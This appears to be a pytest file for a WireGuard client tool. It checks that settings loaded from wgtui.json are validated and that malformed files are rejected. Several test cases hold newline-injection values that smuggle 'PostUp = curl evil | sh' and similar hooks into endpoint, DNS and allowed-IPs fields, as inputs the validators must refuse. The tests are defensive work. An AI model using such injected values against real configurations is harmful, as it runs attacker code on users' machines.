"""wgtui.json is read like user input: every value through the command line's validators, nothing injected."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.unit.pipeline_fixtures import server
from wgtui.changes import Planner
from wgtui.client_config import ClientConfig, UnsafeClientValue
from wgtui.settings import ClientSettings, SettingsError, load, save


def write(tmp_path: Path, doc: object) -> None:
    (tmp_path / "wgtui.json").write_text(json.dumps(doc))


@pytest.mark.parametrize(("key", "value", "needle"), [
    ("endpoint", "vpn.example.com:51820\nPostUp = curl evil | sh", "interfaces.wg0.endpoint"),
    ("dns", ["1.1.1.1\nPostUp = id"], "interfaces.wg0.dns"),
    ("dns", "9.9.9.9, bad host", "interfaces.wg0.dns"),
    ("allowed_ips", ["0.0.0.0/0\nPostUp = id"], "interfaces.wg0.allowed_ips"),
    ("keepalive", "25\nDNS = 6.6.6.6", "interfaces.wg0.keepalive"),
    ("keepalive", True, "interfaces.wg0.keepalive"),
    ("handshake_timeout", "600", "interfaces.wg0.handshake_timeout"),
    ("endpont", "typo:1", "interfaces.wg0.endpont is not a setting"),
])
def test_a_bad_value_is_an_error_naming_its_key(tmp_path: Path, key: str, value: object, needle: str) -> None:
    write(tmp_path, {"interfaces": {"wg0": {key: value}}})
    with pytest.raises(SettingsError, match=needle.replace(".", r"\.")):
        load(tmp_path, "wg0")


@pytest.mark.parametrize("doc", [[1, 2], {"interfaces": []}, {"interfaces": {"wg0": "vpn:1"}},
                                 {"interfaces": {"wg1": 7}}])
def test_a_file_of_the_wrong_shape_is_an_error_not_a_traceback(tmp_path: Path, doc: object) -> None:
    write(tmp_path, doc)
    with pytest.raises(SettingsError, match=r"wgtui\.json"):
        load(tmp_path, "wg0")


def test_good_values_are_normalised_like_on_the_command_line(tmp_path: Path) -> None:
    write(tmp_path, {"interfaces": {"wg0": {"endpoint": " vpn.example.com:51820 ", "dns": "10.8.0.1, corp.example",
                                            "allowed_ips": ["10.8.0.5/24"], "keepalive": "off",
                                            "handshake_timeout": 120}}})
    got = load(tmp_path, "wg0")
    assert got == ClientSettings(endpoint="vpn.example.com:51820", dns=("10.8.0.1", "corp.example"),
                                 allowed_ips=("10.8.0.0/24",), keepalive=0, handshake_timeout=120)
    assert load(tmp_path, "wg9") == ClientSettings()


def test_saving_keeps_other_interfaces_and_refuses_to_overwrite_a_broken_file(tmp_path: Path) -> None:
    write(tmp_path, {"interfaces": {"wg1": {"endpoint": "b.example:1"}}, "note": "kept"})
    save(tmp_path, "wg0", ClientSettings(endpoint="a.example:2"))
    doc = json.loads((tmp_path / "wgtui.json").read_text())
    assert doc["note"] == "kept" and doc["interfaces"]["wg1"] == {"endpoint": "b.example:1"}
    assert load(tmp_path, "wg0").endpoint == "a.example:2"
    (tmp_path / "wgtui.json").write_text("{not json")
    with pytest.raises(SettingsError, match="not valid JSON"):
        save(tmp_path, "wg0", ClientSettings())
    assert (tmp_path / "wgtui.json").read_text() == "{not json"


def test_the_client_config_refuses_a_line_break_whatever_its_source() -> None:
    config = ClientConfig(private_key="x", addresses=("10.8.0.2/32",), server_public_key="k",
                          server_endpoint="vpn:1\nPostUp = id", allowed_ips=("0.0.0.0/0",))
    with pytest.raises(UnsafeClientValue, match="line break"):
        config.text()


def test_settings_of_a_hostile_file_never_reach_a_client_config(tmp_path: Path) -> None:
    backend, conf = server(tmp_path)
    write(tmp_path, {"interfaces": {"wg0": {"dns": ["1.1.1.1\nPostUp = curl x | sh"]}}})
    with pytest.raises(SettingsError, match="dns"):
        Planner("wg0", conf, backend, client_settings=load(tmp_path, "wg0"))
